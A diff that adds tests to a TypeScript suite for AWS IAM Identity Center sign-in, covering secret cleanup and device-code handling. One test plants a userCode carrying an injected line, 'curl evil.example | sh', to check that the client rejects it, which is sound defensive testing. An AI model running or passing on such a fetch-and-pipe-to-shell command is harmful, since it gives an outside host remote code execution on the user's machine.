@@ -31,6 +31,14 @@ describe('signing in to IAM Identity Center', () => {
       assert.ok(bed.secretsKept().length >= 3 && !bed.secretsKept().some((secret) => log.includes(secret)));
     });
 
+    it('stores nothing as new that was had before all secrets were forgotten elsewhere, the client included', async () => {
+      bed.person.beforeCallback = () => Promise.resolve(void (bed.forgettings += 1));
+      await bed.resolve(bed.open());
+      const kept = [...bed.marks].map(([name, mark]) => [name.split('/')[1], mark]);
+      assert.deepEqual(kept.map(([name]) => name).sort(), ['client', 'signIn']);
+      for (const [name, mark] of kept) assert.equal(mark, 0, String(name));
+    });
+
     it('once for many profiles of one instance that ask at the same time', async () => {
       const window = bed.open();
       const roles = [PERMISSION_SETS.analyst, PERMISSION_SETS.readOnly];
@@ -132,6 +140,22 @@ describe('signing in to IAM Identity Center', () => {
       bed.aws.identityCenter.approve(bed.person.codes[0] ?? '');
       await work;
       assert.deepEqual(bed.pauses.slice(0, 2), [1000, 6000], 'the local AWS wants a second between two questions');
+    });
+
+    it('shows no code that is none, such as one with lines of its own', async () => {
+      bed.method = 'deviceCode';
+      const body = JSON.stringify({
+        deviceCode: 'd',
+        userCode: 'ABCD-EFGH\n\nNow run: curl evil.example | sh',
+        verificationUri: 'https://device.example/',
+        expiresIn: 600,
+        interval: 1,
+      });
+      const action = { type: 'garbage', body } as const;
+      bed.aws.faults.add({ operation: 'StartDeviceAuthorization', action });
+      const error = await failure(bed.resolve(bed.open()), 'strangeAnswer', ['evil']);
+      assert.match(error.detail.cure ?? '', /start URL/);
+      assert.deepEqual(bed.person.codes, []);
     });
 
     it('says that it was denied, or not confirmed in time', async () => {
